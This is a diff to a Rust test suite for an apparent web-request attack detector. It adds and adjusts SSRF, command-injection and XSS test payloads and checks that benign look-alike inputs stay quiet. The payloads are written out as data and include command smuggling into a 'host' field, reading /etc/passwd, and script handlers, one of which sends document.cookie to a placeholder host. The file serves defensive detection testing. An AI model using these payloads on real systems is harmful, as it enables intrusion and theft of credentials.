@@ -813,16 +813,18 @@ fn classic_ssrf_command_and_sql_payloads_still_fire_after_the_rules_were_narrowe
             "203.0.113.128",
             r#"{"callback":"http://[::1]:8080/hook"}"#,
         ),
+        query(1.8, "203.0.113.129", "url=+127.0.0.1/admin"),
+        body(1.9, "203.0.113.120", r#"{"host":" localhost"}"#),
+        body(1.95, "203.0.113.119", "127.0.0.1:22"),
     ];
     let command = [
         query(2.0, "203.0.113.131", "host=8.8.8.8;cat%20/etc/passwd"),
         query(2.1, "203.0.113.132", "host=$(id)"),
         query(2.2, "203.0.113.133", "host=%60whoami%60"),
         query(2.3, "203.0.113.134", "host=8.8.8.8%20%26%26%20whoami"),
+        // (`| id"` at the end of a JSON string is not caught: `{"columns":"name | id"}`
+        // and `'user-' || id` are ordinary text.)
         body(2.4, "203.0.113.135", r#"{"host":"8.8.8.8 | id; ls"}"#),
-        // At the end of a JSON string after a space (`"name|id"` stays an ordinary list).
-        body(2.45, "203.0.113.137", r#"{"host":"8.8.8.8 | id"}"#),
-        body(2.46, "203.0.113.138", r#"{"host":"8.8.8.8 && id"}"#),
         body(
             2.5,
             "203.0.113.136",
@@ -936,7 +938,9 @@ fn ordinary_queries_headers_and_bodies_stay_quiet() {
         r#"{"text":"cost is $5 (approx); I'm 100% sure"}"#,
         r#"{"columns":"name|id"}"#,
         r#"{"columns":"name;id"}"#,
-        r#"{"note":"pick one: name | identity"}"#,
+        r#"{"columns":"name | id"}"#,
+        r#"{"select":"'user-' || id"}"#,
+        r#"{"condition":"active && id"}"#,
         r#"{"pipeline":"build | identify"}"#,
         r#"{"text":"the EU union select committee met on Tuesday"}"#,
         "name=O%27Brien&plan=select+a+plan&redirect=%2Fhome",
@@ -997,6 +1001,13 @@ fn classic_xss_payloads_fire() {
         "q=<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
         "q=prompt(String.fromCharCode(88,83,83))",
         "next=<ScRiPt>fetch('//x/'+document.cookie)</ScRiPt>",
+        // Handlers alone, with no call the call regex knows.
+        "q=<img src=x onerror=eval(name)>",
+        "q=<svg/onload=print()>",
+        "q=<x onloadstart=eval(name)>",
+        "q=<video><source onerror=eval(location.hash.slice(1))>",
+        "q=<p ontouchstart=eval(name)>",
+        "q=%27;alert(origin)//",
     ];
     let events: Vec<Event> = payloads
         .iter()
@@ -1025,6 +1036,8 @@ fn xss_stays_quiet_on_ordinary_html_code_and_parameters() {
         "q=prompt+engineering",
         "q=confirm+order+123",
         "tab=online",
+        "q=alert+(2)",
+        "action=confirm+(this+week)",
     ];
     let bodies = [
         r#"{"html":"<p><img src=\"/images/cat.png\" alt=\"a cat\"></p>"}"#,
@@ -1033,6 +1046,10 @@ fn xss_stays_quiet_on_ordinary_html_code_and_parameters() {
         r#"{"code":"const answer = prompt(question); alert(answer)"}"#,
         r#"{"text":"Alert: your order is confirmed (confirm(ation) pending)"}"#,
         r#"{"settings":{"onboarding":true,"online":"yes"}}"#,
+        r#"{"title":"Alert (3)","hint":"Prompt (1 of 3)"}"#,
+        r#"{"text":"Please confirm (this cannot be undone)"}"#,
+        r#"{"code":"if (confirm(\"Delete this item?\")) remove(id)"}"#,
+        r#"{"text":"type the prompt `/imagine` and set the alert `5xx` threshold"}"#,
     ];
     assert_quiet(&run(ordinary_inputs(&queries, &bodies, &[])));
 }
